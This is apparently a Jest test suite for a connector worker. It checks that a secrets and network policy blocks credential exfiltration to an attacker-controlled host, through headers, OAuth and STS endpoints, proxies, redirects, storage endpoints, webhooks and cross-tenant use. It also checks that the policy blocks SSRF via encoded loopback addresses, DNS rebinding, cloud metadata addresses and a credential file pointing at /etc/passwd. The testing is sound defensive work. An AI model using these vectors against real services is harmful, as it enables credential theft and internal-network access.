import { generateKeyPairSync, randomUUID } from 'node:crypto';
import dns from 'node:dns';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, jest } from '@jest/globals';
import { postWebhook } from '../../src/activities/alerts/post-webhook.ts';
import type { ConnectorSpec } from '../../src/connectors/connector-spec.ts';
import { openConnector } from '../../src/connectors/open-connector.ts';
import { resolveConnectorReference } from '../../src/connectors/resolve-secrets.ts';
import { stubEnv, unstubAllEnvs } from '../jest/stub-env.ts';
import { defaultInForce, ELSEWHERE, inForce } from '../policy/in-force.ts';
import { withoutCloudIdentity } from '../storage/cloud/worker-environment.ts';
import { type FakeServer, respondWithJson, startFakeServer } from './rest/fake-server.ts';
import { TABLE, TABLE_PATH, tableMetadata } from './rest/fake-table.ts';
import { plainSpec } from './spec.ts';

const SECRET = 'the-legit-secret-42';
const CREDENTIAL = `the-client-id:${SECRET}`;
const PEM = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' });
const AZURE_KEY = Buffer.from('a key of the storage account').toString('base64');
const HOOK_KEY = `whsec_${Buffer.from('the legit key of the webhook, long enough').toString('base64')}`;

/** The server to which the secrets belong, and one of somebody who may write connectors. */
let legit: FakeServer;
let attacker: FakeServer;
/** Where `legit` sends requests on to. */
let redirect: string | undefined;
let folder: string;

const json = {
  namespaces: [['n']],
  defaults: {},
  overrides: {},
  access_token: 'token-issued-for-it',
  expires_in: 3600,
};
const hostOf = ({ url }: FakeServer) => new URL(url).host;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'attacks-'));
  legit = await startFakeServer((_, response) => {
    if (redirect === undefined) respondWithJson(response, json);
    else response.writeHead(307, { location: redirect }).end();
  });
  attacker = await startFakeServer((_, response) => respondWithJson(response, json));
});
afterAll(async () => {
  rmSync(folder, { recursive: true });
  for (const server of [legit, attacker]) await server[Symbol.asyncDispose]();
});
beforeEach(() => {
  withoutCloudIdentity();
  for (const server of [legit, attacker]) server.requests.length = 0;
  redirect = undefined;
  stubEnv('LEGIT_SECRET', SECRET);
  stubEnv('LEGIT_CREDENTIAL', CREDENTIAL);
  stubEnv('LEGIT_KEY_ID', 'AKIALEGITLEGITLEGIT');
  stubEnv('LEGIT_KEYS', `AKIALEGITLEGITLEGIT:${SECRET}`);
  stubEnv('LEGIT_AZURE_KEY', AZURE_KEY);
  stubEnv('LEGIT_HOOK_KEY', HOOK_KEY);
  stubEnv('LEGIT_HOOK_URL', `${attacker.url}/services/planted-path`);
});
afterEach(() => {
  jest.restoreAllMocks();
  unstubAllEnvs();
  defaultInForce();
});

/** The policy by which the secrets belong to `legit`. */
const allowLegit = () => inForce({ secrets: [{ ref: 'env:LEGIT_*', tenants: ['acme'], hosts: [hostOf(legit)] }] });

interface Attack {
  kind?: ConnectorSpec['kind'];
  uri?: string;
  properties?: Record<string, string>;
  auth?: Partial<ConnectorSpec['auth']>;
}

/** Lists the namespaces of a connector. @returns the error */
async function attempt({ kind = 'ICEBERG', uri = attacker.url, properties = {}, auth = {} }: Attack): Promise<unknown> {
  const plain = plainSpec(kind, uri);
  try {
    const spec = { ...plain, properties, auth: { ...plain.auth, ...auth } };
    await using upstream = await openConnector(spec, {});
    await upstream.listNamespaces([], { size: 10 });
    return undefined;
  } catch (error) {
    return error;
  }
}

const denied = (...texts: string[]) =>
  expect.objectContaining({
    code: 'PERMISSION_DENIED',
    message: expect.stringMatching(
      new RegExp([...texts, 'RECONCILER_WORKER_POLICY'].map((text) => text.replace(/[.*+?()[\]]/g, '\\$&')).join('.*')),
    ),
  });

const S3_KEYS = { 's3.access-key-id': 'env:LEGIT_KEY_ID', 's3.secret-access-key': 'env:LEGIT_SECRET' };

describe('a secret is not sent to another host than its own', () => {
  const attacks: Record<string, () => Attack> = {
    'as bearer token': () => ({ auth: { scheme: 'bearer', secretRef: 'env:LEGIT_SECRET' } }),
    'to the token endpoint of the catalog': () => ({ auth: { scheme: 'oauth2', secretRef: 'env:LEGIT_CREDENTIAL' } }),
    'to a token endpoint elsewhere': () => ({
      uri: legit.url,
      auth: {
        scheme: 'oauth2',
        secretRef: 'env:LEGIT_CREDENTIAL',
        properties: { 'oauth2-server-uri': `${attacker.url}/t` },
      },
    }),
    'as the token that was issued for it': () => ({
      auth: {
        scheme: 'oauth2',
        secretRef: 'env:LEGIT_CREDENTIAL',
        properties: { 'oauth2-server-uri': `${legit.url}/token` },
      },
    }),
    'as header hint': () => ({ auth: { headerHints: { 'x-any': 'env:LEGIT_SECRET' } } }),
    'as header': () => ({ properties: { 'header.x-any': 'env:LEGIT_SECRET' } }),
    'as warehouse': () => ({ properties: { warehouse: 'env:LEGIT_SECRET' } }),
    'as scope': () => ({
      auth: { scheme: 'oauth2', secretRef: 'env:LEGIT_SECRET', properties: { scope: 'env:LEGIT_CREDENTIAL' } },
    }),
    'as password of a proxy': () => ({
      uri: legit.url,
      properties: {
        'rest.client.proxy.hostname': '127.0.0.1',
        'rest.client.proxy.port': new URL(attacker.url).port,
        'rest.client.proxy.username': 'me',
        'rest.client.proxy.password': 'env:LEGIT_SECRET',
      },
    }),
    'through a proxy that sees it': () => ({
      uri: legit.url,
      properties: {
        'rest.client.proxy.hostname': '127.0.0.1',
        'rest.client.proxy.port': new URL(attacker.url).port,
      },
      auth: { scheme: 'bearer', secretRef: 'env:LEGIT_SECRET' },
    }),
    'as signature of a catalog': () => ({
      properties: { 'rest.signing-region': 'eu-west-1' },
      auth: { scheme: 'sigv4', secretRef: 'env:LEGIT_KEYS' },
    }),
    'as signature of Glue': () => ({
      kind: 'GLUE',
      properties: { 'client.region': 'eu-west-1' },
      auth: { secretRef: 'env:LEGIT_KEYS' },
    }),
    "as id of Glue's catalog": () => ({
      kind: 'GLUE',
      properties: {
        'client.region': 'eu-west-1',
        'client.access-key-id': 'AKIAOTHER',
        'client.secret-access-key': 'other',
        'glue.id': 'env:LEGIT_SECRET',
      },
    }),
    'as signature of S3': () => ({ uri: 's3://b/wh', properties: { 's3.endpoint': attacker.url, ...S3_KEYS } }),
    'as session of S3': () => ({
      uri: 's3://b/wh',
      properties: {
        's3.endpoint': attacker.url,
        's3.access-key-id': 'AKIAOTHER',
        's3.secret-access-key': 'other',
        's3.session-token': 'env:LEGIT_SECRET',
      },
    }),
    'as signature of STS': () => ({
      uri: 's3://b/wh',
      properties: {
        's3.endpoint': legit.url,
        ...S3_KEYS,
        'client.region': 'eu-west-1',
        'client.assume-role.arn': 'arn:aws:iam::1:role/r',
        'client.sts.endpoint': attacker.url,
      },
    }),
    'as signature of STS, if only the secret key is a secret': () => ({
      uri: 's3://b/wh',
      properties: {
        's3.endpoint': legit.url,
        's3.access-key-id': 'AKIALEGITLEGITLEGIT',
        's3.secret-access-key': 'env:LEGIT_SECRET',
        'client.region': 'eu-west-1',
        'client.assume-role.arn': 'arn:aws:iam::1:role/r',
        'client.sts.endpoint': attacker.url,
      },
    }),
    'as signature of Azure': () => ({
      uri: 'abfss://c@acct.dfs.core.windows.net/wh',
      properties: {
        'adls.account-host': 'unused',
        'adls.blob-storage-scheme': 'http',
        'adls.blob-storage-authority': hostOf(attacker),
        'adls.auth.shared-key.account.name': 'acct',
        'adls.auth.shared-key.account.key': 'env:LEGIT_AZURE_KEY',
      },
    }),
    'as SAS token of Azure': () => ({
      uri: 'abfss://c@acct.dfs.core.windows.net/wh',
      properties: {
        'adls.blob-storage-scheme': 'http',
        'adls.blob-storage-authority': hostOf(attacker),
        'adls.sas-token': 'env:LEGIT_SECRET',
      },
    }),
    'as token of Google': () => ({
      uri: 'gs://b/wh',
      properties: { 'gcs.service.host': attacker.url, 'gcs.oauth2.token': 'env:LEGIT_SECRET' },
    }),
    'as assertion of Google': () => {
      // Another one each time, so that there is no token for it yet.
      const account = { type: 'service_account', client_email: `${randomUUID()}@b.c`, private_key: PEM };
      stubEnv('LEGIT_ACCOUNT', JSON.stringify({ ...account, token_uri: `${attacker.url}/t` }));
      const properties = { 'gcs.service.host': legit.url, 'gcs.credentials': 'env:LEGIT_ACCOUNT' };
      return { uri: 'gs://b/wh', properties };
    },
    'as token of Unity Catalog': () => ({ kind: 'UNITY', auth: { secretRef: 'env:LEGIT_SECRET' } }),
    'as service principal': () => ({ kind: 'UNITY', auth: { secretRef: 'env:LEGIT_CREDENTIAL' } }),
  };

  it.each(Object.entries(attacks))('%s', async (_, attack) => {
    inForce(undefined);
    await attempt(attack());
    // Without the policy, it does arrive: the attack is one.
    expect(attacker.requests.length).toBeGreaterThan(0);
    attacker.requests.length = 0;
    allowLegit();
    expect(await attempt(attack())).toEqual(denied('env:LEGIT_', 'may not be sent to 127.0.0.1:'));
    expect(attacker.requests).toEqual([]);
  });

  it.each([
    ['s3://b/t', { 's3.access-key-id': 'vended-id', 's3.secret-access-key': 'vended-key' }, 's3.endpoint'],
    ['gs://b/t', { 'gcs.oauth2.token': 'vended-token' }, 'gcs.service.host'],
    ['abfss://c@a.dfs.core.windows.net/t', { 'adls.sas-token': 'sig=vended' }, 'adls.connection-string'],
  ])('nor are the credentials that a catalog vends for it: %s', async (location, vended, property) => {
    await using catalog = await startFakeServer(({ path }, response) => {
      if (!path.startsWith(TABLE_PATH)) return respondWithJson(response, { defaults: {}, overrides: {} });
      const metadata = tableMetadata(location, `${location}/list.avro`);
      respondWithJson(response, { 'metadata-location': 'm', metadata, config: vended });
    });
    const plain = plainSpec('ICEBERG', catalog.url);
    const read = async (hosts: string[]) => {
      inForce({ secrets: [{ ref: 'env:LEGIT_SECRET', tenants: ['acme'], hosts }] });
      await using upstream = await openConnector(
        {
          ...plain,
          properties: { [property]: attacker.url, 's3.path-style-access': 'true', 'client.region': 'eu-west-1' },
          auth: { ...plain.auth, scheme: 'bearer', secretRef: 'env:LEGIT_SECRET' },
        },
        {},
      );
      await using reader = await upstream.openTable(TABLE);
      await reader.liveFileCounts(7n);
    };
    await expect(read([hostOf(catalog)])).rejects.toEqual(denied('env:LEGIT_SECRET', hostOf(attacker)));
    expect(attacker.requests).toEqual([]);
    await read([hostOf(catalog), hostOf(attacker)]).catch(() => {});
    expect(attacker.requests.length).toBeGreaterThan(0);
  });

  it('but to its own', async () => {
    allowLegit();
    expect(
      await attempt({ uri: legit.url, auth: { scheme: 'oauth2', secretRef: 'env:LEGIT_CREDENTIAL' } }),
    ).toBeUndefined();
    expect(legit.requests.at(-1)?.headers.authorization).toBe('Bearer token-issued-for-it');
  });

  it('and not after a redirect', async () => {
    allowLegit();
    redirect = `${attacker.url}/v1/config`;
    const error = await attempt({ uri: legit.url, auth: { scheme: 'bearer', secretRef: 'env:LEGIT_SECRET' } });
    expect(error).toMatchObject({ code: 'FAILED_PRECONDITION', message: expect.stringContaining('another host') });
    expect(legit.requests).toHaveLength(1);
    expect(attacker.requests).toEqual([]);
  });

  it('and the same connector with another address does not get it', async () => {
    allowLegit();
    const auth = { scheme: 'oauth2', secretRef: 'env:LEGIT_CREDENTIAL' };
    expect(await attempt({ uri: legit.url, auth })).toBeUndefined();
    expect(await attempt({ auth })).toEqual(denied('env:LEGIT_CREDENTIAL', hostOf(attacker)));
    expect(attacker.requests).toEqual([]);
  });

  it('nor does another tenant', async () => {
    inForce({ secrets: [{ ref: 'env:LEGIT_*', tenants: ['acme'], hosts: [hostOf(legit)] }] }, { tenant: 'rival' });
    const auth = { scheme: 'bearer', secretRef: 'env:LEGIT_SECRET' };
    expect(await attempt({ uri: legit.url, auth })).toEqual(denied('env:LEGIT_SECRET', 'tenant rival'));
    expect(legit.requests).toEqual([]);
  });

  it('nor does a tenant for which the worker does not work, even without a secret', async () => {
    inForce({ tenants: ['acme'] }, { tenant: 'rival' });
    expect(await attempt({ uri: legit.url })).toEqual(denied('this worker works only for acme, not for tenant rival'));
    expect(legit.requests).toEqual([]);
  });

  it.each(['LEGIT_HOOK_URL', 'LEGIT_HOOK_KEY'])('nor does a webhook: %s', async (name) => {
    allowLegit();
    const resolve = (reference: string) => resolveConnectorReference(reference, 'alerts', {});
    const url = name === 'LEGIT_HOOK_URL' ? await resolve('env:LEGIT_HOOK_URL') : `${attacker.url}/hook`;
    const secret = name === 'LEGIT_HOOK_KEY' ? await resolve('env:LEGIT_HOOK_KEY') : undefined;
    const message = { id: 'm', body: '{}', url, ...(secret !== undefined && { secret }) };
    await expect(postWebhook(message)).rejects.toEqual(denied(`env:${name}`, hostOf(attacker)));
    expect(attacker.requests).toEqual([]);
    await (secret && postWebhook({ ...message, url: `${legit.url}/hook` }));
    expect(legit.requests).toHaveLength(secret ? 1 : 0);
  });
});

describe('the worker’s own identities', () => {
  const chain = () => ({ uri: 's3://b/wh', properties: { 's3.endpoint': attacker.url, 'client.region': 'eu-west-1' } });

  beforeEach(() => {
    stubEnv('AWS_ACCESS_KEY_ID', 'AKIAOFTHEWORKER12345');
    stubEnv('AWS_SECRET_ACCESS_KEY', 'secret-key-of-the-worker');
    stubEnv('AWS_SESSION_TOKEN', 'session-of-the-worker');
  });

  it('are not used if the policy does not list them', async () => {
    inForce({});
    expect(await attempt(chain())).toEqual(denied("the worker's own AWS identity", 'identities'));
    expect(await attempt({ uri: 'gs://b/wh', properties: { 'gcs.service.host': attacker.url } })).toEqual(
      denied("the worker's own Google identity"),
    );
    const azure = {
      uri: 'abfss://c@acct.dfs.core.windows.net/wh',
      properties: { 'adls.blob-storage-scheme': 'http', 'adls.blob-storage-authority': hostOf(attacker) },
    };
    expect(await attempt(azure)).toEqual(denied("the worker's own Azure identity"));
    const profile = { ...chain(), properties: { ...chain().properties, 's3.profile-name': 'worker' } };
    expect(await attempt(profile)).toEqual(denied("the worker's profile worker", 'profiles'));
    const databricks = (properties: Record<string, string>) => attempt({ kind: 'UNITY', auth: { properties } });
    expect(await databricks({ profile: 'worker' })).toEqual(denied("the worker's profile worker"));
    expect(await databricks({ mode: 'cli' })).toEqual(denied("the worker's own Databricks identity"));
    expect(attacker.requests).toEqual([]);
  });

  it('are used at the hosts that it lists', async () => {
    inForce({ identities: [{ name: 'aws', tenants: ['acme'], hosts: [hostOf(legit)] }] });
    expect(await attempt(chain())).toEqual(
      denied("the worker's own AWS identity may not be sent to", hostOf(attacker)),
    );
    expect(attacker.requests).toEqual([]);
    await attempt({ ...chain(), properties: { ...chain().properties, 's3.endpoint': legit.url } });
    expect(legit.requests[0]?.headers.authorization).toContain('AKIAOFTHEWORKER12345');
  });

  it('and assume roles there only', async () => {
    inForce({ identities: [{ name: 'aws', tenants: ['acme'], hosts: [hostOf(legit)] }] });
    const role = { 'client.assume-role.arn': 'arn:aws:iam::1:role/r', 'client.sts.endpoint': attacker.url };
    expect(await attempt({ ...chain(), properties: { ...chain().properties, ...role } })).toEqual(
      denied("the worker's own AWS identity may not be sent to", hostOf(attacker)),
    );
    expect(attacker.requests).toEqual([]);
  });

  it('and a token of the Databricks CLI', async () => {
    stubEnv('DATABRICKS_TOKEN', 'token-of-the-worker');
    const cli = (uri: string) => attempt({ kind: 'UNITY', uri, auth: { properties: { mode: 'cli' } } });
    inForce({ identities: [{ name: 'databricks', tenants: ['acme'], hosts: [hostOf(legit)] }] });
    expect(await cli(attacker.url)).toEqual(denied("the worker's own Databricks identity may not be sent to"));
    expect(attacker.requests).toEqual([]);
    await cli(legit.url);
    expect(legit.requests[0]?.headers.authorization).toBe('Bearer token-of-the-worker');
  });
});

it('credentials of Google that a connector chooses name no file that its references may not', async () => {
  inForce(undefined);
  const file = join(folder, 'subject');
  writeFileSync(file, 'subject-token');
  const external = (path: string) => ({
    type: 'external_account',
    audience: 'a',
    subject_token_type: 't',
    token_url: `${attacker.url}/t`,
    credential_source: { file: path },
  });
  const properties = { 'gcs.service.host': attacker.url, 'gcs.credentials': 'env:EXTERNAL' };
  stubEnv('EXTERNAL', JSON.stringify(external('/etc/passwd')));
  expect(await attempt({ uri: 'gs://b/wh', properties })).toEqual(denied('file:/etc/passwd', 'is below /etc'));
  expect(attacker.requests).toEqual([]);
  stubEnv('EXTERNAL', JSON.stringify(external(file)));
  await attempt({ uri: 'gs://b/wh', properties });
  expect(attacker.requests[0]?.body).toContain('subject_token=subject-token');
});

describe('a worker with a catalog elsewhere', () => {
  const port = () => new URL(attacker.url).port;
  const elsewhere = (networks: object = {}) => inForce({ networks }, { address: ELSEWHERE });

  it.each(['127.0.0.1', 'localhost', '2130706433', '0x7f.1', '0177.0.0.1', '127.1', '[::ffff:127.0.0.1]', '0.0.0.0'])(
    'does not connect to %s',
    async (host) => {
      elsewhere();
      expect(await attempt({ uri: `http://${host}:${port()}` })).toEqual(
        denied('the worker does not connect to', "the worker's own machine", 'networks.allow'),
      );
      expect(attacker.requests).toEqual([]);
    },
  );

  it('connects to what the policy allows', async () => {
    elsewhere({ allow: ['127.0.0.1'] });
    expect(await attempt({})).toBeUndefined();
    elsewhere({ allow: ['127.0.0.1'], deny: ['127.0.0.0/8'] });
    expect(await attempt({ uri: `http://127.0.0.1:${port()}/other` })).toEqual(denied('networks.deny'));
  });

  it('does not connect to what a name has become, nor to one of its addresses', async () => {
    let answers: string[] = [];
    jest.spyOn(dns, 'lookup').mockImplementation(((_: string, __: object, callback: (...found: unknown[]) => void) =>
      callback(
        null,
        answers.map((address) => ({ address, family: 4 })),
      )) as never);
    elsewhere({ allow: ['127.0.0.1'] });
    const uri = `http://rebinding.example:${port()}`;
    answers = ['127.0.0.1'];
    expect(await attempt({ uri })).toBeUndefined();
    attacker.requests.length = 0;
    answers = ['127.0.0.2'];
    expect(await attempt({ uri })).toEqual(denied('rebinding.example (127.0.0.2)'));
    answers = ['127.0.0.2', '10.0.0.1'];
    expect(await attempt({ uri })).toEqual(denied('rebinding.example'));
    expect(attacker.requests).toEqual([]);
    answers = ['127.0.0.2', '127.0.0.1'];
    expect(await attempt({ uri })).toBeUndefined();
  });

  it('does not send a webhook to a private address, nor connect to a proxy of a connector there', async () => {
    elsewhere();
    await expect(postWebhook({ id: 'm', body: '{}', url: `http://localhost:${port()}/` })).rejects.toEqual(
      denied('does not connect to localhost'),
    );
    const properties = { 'rest.client.proxy.hostname': 'localhost', 'rest.client.proxy.port': port() };
    for (const uri of ['http://catalog.example', 'https://catalog.example'])
      expect(await attempt({ uri, properties })).toEqual(denied('does not connect to localhost'));
    expect(attacker.requests).toEqual([]);
  });
});

describe('metadata services', () => {
  const METADATA = ['169.254.169.254', '[fd00:ec2::254]', '[::ffff:169.254.169.254]', '2852039166'];

  it.each(METADATA)('%s is never an address of a connector, even on this machine', async (host) => {
    inForce(undefined);
    expect(await attempt({ uri: `http://${host}/` })).toMatchObject({
      code: 'PERMISSION_DENIED',
      message: expect.stringContaining('metadata address'),
    });
  });

  it.each([
    ['s3://b/t', { 's3.endpoint': 'http://169.254.169.254', 's3.access-key-id': 'a', 's3.secret-access-key': 'b' }],
    ['gs://b/t', { 'gcs.service.host': 'http://169.254.169.254', 'gcs.oauth2.token': 'vended' }],
  ])('nor an endpoint that a catalog vends for %s', async (location, config) => {
    inForce(undefined);
    await using catalog = await startFakeServer(({ path }, response) => {
      if (!path.startsWith(TABLE_PATH)) return respondWithJson(response, { defaults: {}, overrides: {} });
      const metadata = tableMetadata(location, `${location}/list.avro`);
      respondWithJson(response, { 'metadata-location': 'm', metadata, config });
    });
    const spec = { ...plainSpec('ICEBERG', catalog.url), properties: { 'client.region': 'eu-west-1' } };
    await using upstream = await openConnector(spec, {});
    await using reader = await upstream.openTable(TABLE);
    await expect(reader.liveFileCounts(7n)).rejects.toMatchObject({
      code: 'PERMISSION_DENIED',
      message: expect.stringContaining('does not connect to 169.254.169.254'),
    });
  });
});
